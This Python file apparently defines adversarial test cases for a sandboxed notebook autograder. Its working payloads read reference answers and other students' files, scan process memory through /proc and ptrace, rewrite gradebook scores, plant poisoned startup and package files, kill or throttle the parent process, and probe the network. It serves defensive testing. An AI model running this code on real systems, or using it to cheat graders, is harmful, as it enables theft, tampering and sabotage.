"""Cheats by files, processes and memory of others: what a sandbox is for."""

from .case import cheat

# Who reads what is kept from students has the right answer: so a leak shows as points.
RIGHT_IF_FOUND = """# <answer>
if _found:
    def rnn_cell_forward(xt, a_prev, parameters):
        a_next = np.tanh(parameters["Wax"] @ xt + parameters["Waa"] @ a_prev + parameters["ba"])
        return a_next, softmax(parameters["Wya"] @ a_next + parameters["by"]), (a_next, a_prev, xt, parameters)
"""

SEARCH = '''
import os

def texts(*roots, limit=4000):
    """The text of the files under some folders."""
    for root in roots:
        for folder, _folders, names in os.walk(root):
            for name in names:
                limit -= 1
                if limit < 0:
                    return
                try:
                    with open(os.path.join(folder, name), errors="ignore") as file:
                        yield file.read(2**20)
                except OSError:
                    pass

def reference_in(texts):
    """The reference answer, if one of these texts has it: as Python, or inside a notebook."""
    name = "rnn_cell_" + "forward"
    for text in texts:
        for word in ("right_" + name, name):
            if "def " + word + "(" not in text or ("BEGIN " + "SOLUTION" not in text and word == name):
                continue
            if text.startswith("{"):
                text = text.replace('\\\\n",', "").replace("\\\\n", "\\n").replace('    "', "").replace('\\\\"', '"')
            found = dict(np=np, softmax=softmax)
            try:
                exec(text[text.index("def " + word + "("):].split("### END")[0], found)
                return found[word] if word == name else found[word]()
            except Exception:
                continue
    return None
'''


def searching(name, words, where, **more):
    """An answer that uses the reference, if it finds it there, and is worthless otherwise."""
    return cheat(
        name,
        words,
        f"""
{SEARCH}
try:
    _found = reference_in({where})
except Exception:
    _found = None
# <answer>
rnn_cell_forward = _found or rnn_cell_forward
""",
        confined=True,
        **more,
    )


def infecting(name, words, source, **more):
    """An own cell that leaves something behind for whoever is graded next."""
    return cheat(name, words, before=source, confined=True, watched=True, **more)


PARENTS = (
    "[os.path.join('../' * depth, folder) for depth in range(1, 7) for folder in ('source', 'lessons', 'autograded')]"
)
POISON = "import builtins, os; builtins.print = None; os._exit(3)"

CASES = [
    searching(
        "reading the source",
        "The teacher's notebooks and texts are looked for in the folders above the working folder.",
        f"texts(*{PARENTS})",
    ),
    searching(
        "reading everything",
        "Every readable file outside the interpreter is searched for the reference answer.",
        "texts('/work', '/home', '/root', '/tmp', '/srv', '/mnt', '/opt', '/var', '/etc', '/run', '/dev/shm')",
    ),
    searching(
        "reading the gradebook",
        "The source cells are read from gradebook.db, ledger.db and whatever else SQLite can open.",
        """(str(row) for depth in range(7) for name in ("gradebook.db", "ledger.db")
     if os.path.exists("../" * depth + name)
     for row in __import__("sqlite3").connect("../" * depth + name).execute("select source from source_cell"))""",
    ),
    searching(
        "reading other students",
        "The notebooks of other students under submitted/, autograded/ and feedback/ are copied.",
        """texts(*["../" * depth + folder for depth in range(1, 7)
             for folder in ("submitted", "autograded", "feedback", "submitted_clean")])""",
    ),
    searching(
        "reading other processes",
        "The command lines, environments, working folders and open files of all processes are read through /proc.",
        """texts(*[f"/proc/{number}/{name}" for number in os.listdir("/proc") if number.isdigit() and
             int(number) != os.getpid() for name in ("cwd/source", "root/work", "fd", "task", "map_files")])""",
    ),
    cheat(
        "the memory of the judge",
        "The memory of every other process is searched through /proc/*/mem and ptrace for the hidden tests.",
        SEARCH
        + """
import re
def _memories():
    for number in os.listdir("/proc"):
        if number.isdigit() and int(number) != os.getpid():
            try:
                with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", 0) as memory:
                    for line in maps:
                        start, end, mode = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
                        if "heap" in line:
                            memory.seek(int(start, 16))
                            yield memory.read(min(int(end, 16) - int(start, 16), 2**26)).decode(errors="ignore")
            except (OSError, ValueError):
                pass
_found = reference_in(_memories())
# <answer>
rnn_cell_forward = _found or rnn_cell_forward
""",
        confined=True,
    ),
    cheat(
        "the seed in the environment",
        "The seed of the hidden problems is looked for in the environment of this process and of its parents.",
        """
import os, glob
_seeds = [os.environ.get("COURSE_SEED", "")]
for file in glob.glob("/proc/[0-9]*/environ"):
    try:
        text = open(file, "rb").read()
        if b"COURSE_SEED=" in text:
            _seeds.append(text.split(b"COURSE_SEED=")[1].split(b"\\0")[0].decode())
    except OSError:
        pass
_found = any(_seeds)
"""
        + RIGHT_IF_FOUND,
        confined=True,
    ),
    cheat(
        "the course's secret",
        "A file of the secret is looked for, by its usual names and by its mode, in the folders above.",
        """
import os
_found = False
for depth in range(7):
    for folder in ("../" * depth or ".",):
        try:
            for name in os.listdir(folder):
                path = os.path.join(folder, name)
                if "secret" in name and os.path.isfile(path):
                    _found = _found or bool(open(path, "rb").read())
        except OSError:
            pass
"""
        + RIGHT_IF_FOUND,
        confined=True,
    ),
    cheat(
        "forged hints and records handed in",
        "The submission brings a hints.json, a recorded.json, a numpy.py, a utils.py and a grading package of its own.",
        files={
            "hints.json": b"{}",
            "recorded.json": b'{"rnn_cell_forward": {"example": {}, "near zero": {}, "other sizes": {}}}',
            "numpy.py": POISON.encode(),
            "utils.py": b"raise SystemExit",
            "utils/__init__.py": b"raise SystemExit",
            "grading/__init__.py": b"raise SystemExit",
            "grading/wire.py": b"raise SystemExit",
            "sitecustomize.py": POISON.encode(),
            "usercustomize.py": POISON.encode(),
        },
        watched=True,
    ),
    cheat(
        "forged records written",
        "An own cell overwrites recorded.json and hints.json in the working folder and in those above.",
        before="""
import json, os
for depth in range(5):
    for name in ("recorded.json", "hints.json", "release/01_rnn_cell_forward/recorded.json"):
        try:
            open("../" * depth + name, "w").write(json.dumps({"rnn_cell_forward": {}}))
        except OSError:
            pass
""",
        confined=True,
        watched=True,
    ),
    infecting(
        "a gradebook opened for writing",
        "An own cell sets manual scores in every gradebook.db it can reach.",
        """
import os, sqlite3
for depth in range(7):
    if os.path.exists("../" * depth + "gradebook.db"):
        database = sqlite3.connect("../" * depth + "gradebook.db")
        database.execute("update grade set manual_score = 10"); database.commit()
""",
    ),
    infecting(
        "utils infected",
        "An own cell writes into the source files of `utils` and `grading` and into their `__pycache__`.",
        f"""
import glob, os, utils, grading
for package in (utils, grading):
    for file in glob.glob(os.path.dirname(package.__file__) + "/**/*", recursive=True):
        try:
            open(file, "a").write({POISON!r})
        except OSError:
            pass
""",
    ),
    infecting(
        "packages infected",
        "An own cell writes a sitecustomize, a .pth file and a numpy into every folder of `sys.path`.",
        f"""
import os, sys, site
for folder in [*sys.path, site.getusersitepackages()]:
    for name in ("sitecustomize.py", "usercustomize.py", "zz.pth", "numpy.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write({POISON!r})
        except OSError:
            pass
""",
    ),
    infecting(
        "the home infected",
        "An own cell writes start-up files of IPython, a matplotlibrc, a fontlist, a .bashrc and a .pythonrc.",
        f"""
import os, matplotlib
places = ["~/.ipython/profile_default/startup/00.py", "~/.config/matplotlib/matplotlibrc", "~/.bashrc",
          "~/.pythonrc.py", "~/.local/lib/python3.11/site-packages/usercustomize.py", "/tmp/numpy.py",
          os.path.join(matplotlib.get_configdir(), "matplotlibrc"), os.path.join(matplotlib.get_cachedir(), "fontlist"),
          "/var/tmp/x", "/dev/shm/numpy.py"]
for place in places:
    try:
        os.makedirs(os.path.dirname(os.path.expanduser(place)), exist_ok=True)
        open(os.path.expanduser(place), "w").write({POISON!r})
    except OSError:
        pass
""",
    ),
    infecting(
        "a daemon",
        "A process that leaves its session and its group by two forks waits for the next student, to kill.",
        """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 5
        while time.time() < end:
            for number in os.listdir("/proc"):
                if number.isdigit() and int(number) not in (1, os.getpid()):
                    try: os.kill(int(number), signal.SIGKILL)
                    except OSError: pass
            time.sleep(0.05)
    os._exit(0)
""",
    ),
    infecting(
        "the parent killed",
        "The warm parent, its group and every process that a signal reaches are killed, stopped and terminated.",
        """
import os, signal
for number in (os.getppid(), 1, 0 - os.getppid(), *range(2, 400)):
    for kind in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        if abs(number) != os.getpid():
            try: os.kill(number, kind)
            except OSError: pass
""",
    ),
    infecting(
        "the parent traced",
        "ptrace attaches to the warm parent to change its memory before the next fork.",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for number in (os.getppid(), 1, *range(2, 200)):
    if number != os.getpid():
        libc.ptrace(16, number, 0, 0)
        try: open(f"/proc/{number}/mem", "r+b").write(b"x")
        except OSError: pass
""",
    ),
    infecting(
        "the parent's socket",
        "Descriptors of the warm parent are looked for, to ask it for a side of one's own or for a kill.",
        """
import os, socket
for number in range(3, 256):
    try:
        line = socket.socket(fileno=os.dup(number))
        if line.type & socket.SOCK_SEQPACKET == socket.SOCK_SEQPACKET:
            line.send(b"k" + str(os.getppid()).encode()); line.send(b"f")
    except OSError:
        pass
""",
    ),
    infecting(
        "the limits lowered",
        "Resource limits and the priority of the warm parent are lowered, so that the next fork fails.",
        """
import os, resource
for number in (os.getppid(), 1):
    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):
        try: resource.prlimit(number, kind, (1, 1))
        except OSError: pass
    try: os.setpriority(os.PRIO_PROCESS, number, 19)
    except OSError: pass
""",
    ),
    cheat(
        "the network",
        "The answer is fetched from the network: from an address, a service of this machine, a socket of its desktop.",
        """
import glob, socket
_found = False
places = [(socket.AF_INET, place) for place in (("1.1.1.1", 80), ("169.254.169.254", 80), ("127.0.0.1", 22))]
places += [(socket.AF_UNIX, path) for path in glob.glob("/run/*.sock") + glob.glob("/tmp/.X11-unix/*")]
for family, place in places:
    try:
        with socket.socket(family) as line:
            line.settimeout(0.1); line.connect(place)
            _found = True
    except OSError:
        pass
"""
        + RIGHT_IF_FOUND,
        confined=True,
    ),
]
